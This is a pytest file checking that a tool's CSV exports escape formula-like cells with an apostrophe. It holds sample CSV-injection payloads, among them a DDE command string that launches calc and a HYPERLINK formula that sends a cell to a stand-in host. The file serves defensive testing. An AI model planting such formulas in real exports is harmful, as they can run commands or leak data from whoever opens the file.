"""CSV exports can't carry a spreadsheet formula: text that starts like one is shown as text."""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest

from saydo.export.cells import safe_cell

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-0.5", "-0.5"), ("+3", "+3"), ("1e-3", "1e-3"), ("Kyiv", "Kyiv"),
    ("", ""), (None, None), (-2, -2), (0.25, 0.25),
])
def test_formula_like_text_gets_an_apostrophe(value, shown):
    assert safe_cell(value) == shown


def test_every_csv_output_neutralises_a_formula_typed_by_an_editor(cli, tmp_path, demo_db):
    db_file, result = demo_db
    db = tmp_path / "saydo.duckdb"
    shutil.copy(db_file, db)
    pledge = next(s for s in result["statements"] if s["kind"] == "pledge")
    code, _, err = cli("correct", pledge["id"], "--speaker", FORMULA, "--why", "test", "--editor", "tester",
                       "--db", db)
    assert code == 0, err

    code, _, err = cli("export", "--format", "csv", "--db", db, "--out", tmp_path / "x.csv")
    assert code == 0, err
    rows = list(csv.DictReader((tmp_path / "x.csv").open(encoding="utf-8")))
    assert next(r for r in rows if r["id"] == pledge["id"])["speaker"] == "'" + FORMULA

    code, out, err = cli("statements", "--csv", "--db", db)
    assert code == 0, err
    assert next(r for r in csv.DictReader(io.StringIO(out)) if r["id"] == pledge["id"])["speaker"] == "'" + FORMULA

    code, out, err = cli("export", "--format", "jsonl", "--db", db, "--out", tmp_path / "x.jsonl")
    lines = [json.loads(line) for line in (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines()]
    assert next(x for x in lines if x["id"] == pledge["id"])["speaker"] == FORMULA  # JSON keeps the value as it is

    from starlette.testclient import TestClient

    from saydo.serve.app import create_app
    from saydo.serve.settings import Settings

    with TestClient(create_app(Settings.build(db, token="", data_dir=tmp_path / "data"))) as client:
        page = client.get("/", params={"_format": "csv", "kind": "any"})
        assert page.status_code == 200
        shown = next(r for r in csv.DictReader(io.StringIO(page.text)) if r["id"] == pledge["id"])
        assert shown["speaker"] == "'" + FORMULA
